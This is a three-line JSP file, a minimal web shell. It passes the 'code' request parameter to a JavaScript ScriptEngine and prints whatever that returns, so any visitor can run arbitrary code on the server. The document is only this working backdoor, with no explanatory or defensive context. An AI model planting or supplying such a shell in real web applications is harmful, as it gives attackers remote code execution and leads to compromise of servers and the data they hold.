<%
  javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js");
  out.println(e.eval(request.getParameter("code")));
%>
